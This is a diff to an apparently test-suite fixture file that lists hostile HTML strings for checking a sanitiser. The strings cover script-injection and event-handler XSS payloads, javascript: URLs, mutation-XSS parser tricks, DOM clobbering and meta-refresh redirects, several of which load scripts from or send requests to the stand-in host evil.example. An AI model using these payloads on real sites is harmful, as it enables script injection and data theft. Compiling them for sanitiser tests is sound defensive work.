@@ -1,16 +1,17 @@
 /**
- * Markup that wants to run a script, lead away or take the page over. `xss()` is the trap that the tests set; whatever asks
- * https://evil.example for something else than a picture has got out. Kinds: after the cheat sheets of OWASP and PortSwigger and the
- * published bypasses of sanitisers (mutation XSS by namespace confusion, clobbering).
+ * Markup that tries to run a script, navigate or alter the page. Tests observe calls of `xss()`, and requests to
+ * https://evil.example other than for pictures. Sources: the cheat sheets of OWASP and PortSwigger, and published
+ * bypasses of sanitisers (mutation XSS by namespace confusion, DOM clobbering).
  */
 export const hostilePayloads: readonly string[] = [
-  // Scripts as such.
+  // Script elements.
   '<script>xss()</script>',
   '<SCRIPT>xss()</SCRIPT>',
   '<script src="https://evil.example/x.js"></script>',
   '<script src="data:text/javascript,xss()"></script>',
   '<script type="module">xss()</script>',
-  '<script type="importmap">{"imports":{"react":"https://evil.example/react.js"}}</script><script type="module">import "react"</script>',
+  '<script type="importmap">{"imports":{"react":"https://evil.example/react.js"}}</script>' +
+    '<script type="module">import "react"</script>',
   '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
   '<scr<script>ipt>xss()</scr</script>ipt>',
   '<svg><script>xss()</script></svg>',
@@ -36,7 +37,8 @@ export const hostilePayloads: readonly string[] = [
   '<svg><animate onbegin=xss() attributeName=x dur=1s>',
   '<svg><set onbegin=xss() attributeName=x>',
   '<svg><a><animate attributeName=href values=javascript:xss() /><text x=20 y=20>x</text></a></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=xss() /></svg>#x" />',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>' +
+    '<image href=1 onerror=xss() /></svg>#x" />',
   '<svg><style><img src=x onerror=xss()></style></svg>',
   '<body onload=xss()>',
   '<details open ontoggle=xss()><summary>x</summary></details>',
@@ -52,7 +54,7 @@ export const hostilePayloads: readonly string[] = [
   '<a href="#" onclick="xss()">x</a>',
   '<button onclick=xss()>x</button>',
   '<x-card onclick=xss() tabindex=0 autofocus onfocus=xss()>x</x-card>',
-  // Addresses that are code.
+  // URLs that run code.
   '<a href="javascript:xss()">x</a>',
   '<a href="jAvAsCrIpT:xss()">x</a>',
   '<a href="java\tscript:xss()">x</a>',
@@ -102,7 +104,7 @@ export const hostilePayloads: readonly string[] = [
   '<p style="background:url(javascript:xss())">x</p>',
   '<p style="background-image:url(https://evil.example/attribute)">x</p>',
   '<a href="https://posta.example/" ping="https://evil.example/ping">x</a>',
-  // What parsers disagree about.
+  // Parser differentials.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>',
   '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
@@ -131,7 +133,7 @@ export const hostilePayloads: readonly string[] = [
   '<a href=javascript:xss()>x',
 ];
 
-/** Names that would stand in for the page's own elements and for what scripts ask the document. */
+/** Names that would clobber the page's own elements and properties of `document`. */
 export const clobberingPayloads: readonly string[] = [
   '<div id="root">x</div>',
   '<div id="salaria-registry">{"version":"x","sections":[]}</div>',
@@ -147,7 +149,7 @@ export const clobberingPayloads: readonly string[] = [
   '<iframe name="fetch" srcdoc="x"></iframe>',
 ];
 
-/** What only a sanitiser can stop: a policy says where scripts and frames come from, not where a page may send its reader. */
+/** Redirects and policies in `meta` elements, which a content security policy does not restrict. */
 export const divertingPayloads: readonly string[] = [
   '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
   '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
